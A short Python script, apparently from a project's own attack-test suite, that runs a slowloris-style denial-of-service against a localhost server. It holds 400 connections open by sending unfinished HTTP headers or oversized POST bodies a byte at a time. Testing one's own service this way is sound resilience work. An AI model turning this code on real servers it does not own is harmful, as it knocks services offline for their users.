"""Attack: requests that never end, whose heads or bodies arrive a byte at a time over many connections."""

import asyncio
from collections import Counter

from attacking import Pace, Target, again_and_again, run, together

CONNECTIONS = 400
HEAD = "GET /api/health HTTP/1.1\r\nHost: localhost:{port}\r\nLong: "
BODY = (
    "POST /api/battles HTTP/1.1\r\nHost: localhost:{port}\r\nContent-Type: application/json\r\n"
    "Content-Length: 1000000\r\n\r\n"
)


async def attack(target: Target, pace: Pace, tally: Counter[str]) -> None:
    async def one(number: int) -> None:
        async def once() -> None:
            await pace.wait()
            reader, writer = await target.connect()
            tally["connections"] += 1
            writer.write((BODY if number % 2 else HEAD).format(port=target.port).encode())
            while not reader.at_eof():
                await asyncio.sleep(0.5)
                writer.write(b"x")
                await writer.drain()

        await again_and_again(tally, once, pause=0.5)

    await together(CONNECTIONS, one)


if __name__ == "__main__":
    run(__doc__, attack, 200)
